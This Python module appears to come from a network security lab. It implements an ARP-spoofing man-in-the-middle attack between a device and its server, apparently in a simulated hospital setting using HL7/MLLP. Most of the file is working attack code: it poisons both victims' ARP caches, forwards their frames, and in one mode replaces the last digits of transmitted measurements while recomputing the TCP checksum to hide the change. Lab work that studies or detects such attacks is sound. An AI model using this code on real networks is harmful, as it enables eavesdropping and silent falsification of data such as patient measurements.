"""The man in the middle: ARP spoofing between a device and its server, with and without altering what they say.

Frames that both send to the attacker are sent on by hand, since the kernel does not forward in the laboratory.
"""

import contextlib
import struct
import time
from random import Random

from tools.lab.attacks.scene import Scene
from tools.lab.frames import TCP, arp, ethernet, octets_of, transport_checksum
from tools.lab.plan import Host

_ARP, _IPV4 = 0x0806, b"\x08\x00"
#: Octets of an Ethernet and of a plain IPv4 header; where the source of an IPv4 packet in a frame ends.
_ETHERNET, _HEADERS = 14, 34
#: Octets at the end of a message that alteration leaves alone: HL7's and MLLP's ends.
_END = 4


def arp_spoofing(scene: Scene) -> None:
    """Listen in: claim each one's address towards the other, and forward what comes."""
    _stand_between(scene, alter=False)


def alteration(scene: Scene) -> None:
    """Forward other measurements than were sent."""
    _stand_between(scene, alter=True)


def _stand_between(scene: Scene, alter: bool) -> None:
    own = octets_of(scene.attacker.mac)
    places = {octets_of(host.address): octets_of(host.mac) for host in scene.victims}
    every = scene.random.uniform(0.5, 1.5)
    scene.wire.settimeout(0.05)
    poisoned = 0.0
    while scene.left > 0:
        if time.monotonic() - poisoned > every:
            _claim(scene, scene.attacker.mac)
            poisoned = time.monotonic()
        with contextlib.suppress(OSError):
            frame = scene.wire.recv(65_535)
            target = frame[30:34]
            if frame[:6] == own and frame[12:14] == _IPV4 and target in places:
                if alter:
                    frame = altered(frame, scene.random)
                scene.put(places[target] + own + frame[12:])
    for _ in range(2):  # heal, so that the ward goes on
        _claim(scene, None)
        time.sleep(0.05)


def _claim(scene: Scene, mac: str | None) -> None:
    """Tell each victim by ARP that the other's address belongs to `mac`, or to the other itself."""
    first, second = scene.victims

    def tell(told: Host, other: Host) -> None:
        answer = arp(2, mac or other.mac, other.address, told.mac, told.address)
        scene.put(ethernet(scene.attacker.mac, told.mac, _ARP, answer.ljust(46, b"\0")))

    tell(first, second)
    tell(second, first)


def altered(frame: bytes, random: Random) -> bytes:
    """Return a frame of which a measurement was replaced, with a right checksum; a frame without any as it is.

    A measurement is the last number of a TCP payload; where it has no digits at all, its last four octets.
    """
    if frame[23] != TCP or frame[_ETHERNET] != 0x45:
        return frame
    payload = _HEADERS + (frame[46] >> 4) * 4
    end = _ETHERNET + struct.unpack_from("!H", frame, 16)[0]
    if end - payload < 24:  # acknowledgements, logins and pings hold none
        return frame
    octets = bytearray(frame[:end])
    digits = [at for at in range(payload + 16, end - _END) if 0x30 <= octets[at] <= 0x39]
    if digits:
        for at in digits[-3:]:
            octets[at] = random.choice([digit for digit in b"0123456789" if digit != octets[at]])
    else:
        octets[end - 4 :] = random.randbytes(4)
    octets[50:52] = b"\0\0"
    total = transport_checksum(frame[26:30], frame[30:34], TCP, bytes(octets[_HEADERS:end]))
    octets[50:52] = struct.pack("!H", total)
    return bytes(octets) + frame[end:]
